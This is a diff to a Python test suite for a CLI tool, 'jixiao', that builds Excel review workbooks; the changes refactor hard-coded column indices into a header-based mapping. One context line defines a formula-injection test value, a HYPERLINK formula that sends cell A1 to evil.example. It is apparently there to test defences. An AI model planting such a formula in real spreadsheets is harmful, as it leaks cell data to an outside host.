@@ -18,8 +18,10 @@ from typer.testing import CliRunner
 from jixiao.cli import app
 from jixiao.folder import JOURNAL_FILE, LOCK_FILE, STAGE_PREFIX
 from jixiao.output import TEMP_PREFIX
+from jixiao.outputs.schema import DRAFT_HEADER, META_VERSION
 from tests.conftest import GOLDEN, SEEDS
 
+COLUMN = {name: k + 1 for k, name in enumerate(DRAFT_HEADER)}
 runner = CliRunner()
 JIXIAO = str(Path(sys.executable).parent / "jixiao")
 INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
@@ -78,14 +80,14 @@ def test_control_characters_in_cells_and_names_cost_nothing(tmp_path: Path) -> N
     assert cells and all(c.comment is not None and "控制字符" in c.comment.text for c in cells)
 
 
-def _tamper(book: Path, rows: list[list[str]], version: str = "2") -> None:
+def _tamper(book: Path, rows: list[list[str]], version: str = META_VERSION) -> None:
     wb = load_workbook(book)
     meta = wb["校验"]
     meta.cell(row=1, column=2, value=version)
     for row in rows:
         meta.append(row)
     drafts = wb["草稿"]
-    drafts.cell(row=2, column=10, value="采纳")
+    drafts.cell(row=2, column=COLUMN["审核结论"], value="采纳")
     wb.save(book)
 
 
@@ -175,11 +177,11 @@ def decided(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, b
     wb = load_workbook(base / "review.xlsx")
     ws = wb["草稿"]
     rows = list(ws.iter_rows(min_row=2, values_only=True))
-    firsts = {r[1]: n for n, r in reversed(list(enumerate(rows, start=2)))}
+    firsts = {r[COLUMN["文件"] - 1]: n for n, r in reversed(list(enumerate(rows, start=2)))}
     assert len(firsts) == 4  # three documents and the batch summary
     for k, n in enumerate(sorted(firsts.values())):
-        ws.cell(row=n, column=10, value=("采纳", "修改", "退回", "修改")[k])
-        ws.cell(row=n, column=11, value=f"经核实，第{k}条按审核意见修改。" if k % 2 else None)
+        ws.cell(row=n, column=COLUMN["审核结论"], value=("采纳", "修改", "退回", "修改")[k])
+        ws.cell(row=n, column=COLUMN["修改后文本"], value=f"经核实，第{k}条按审核意见修改。" if k % 2 else None)
     wb.save(base / "review.xlsx")
     reference = tmp_path_factory.mktemp("reference") / "out"
     shutil.copytree(base, reference)
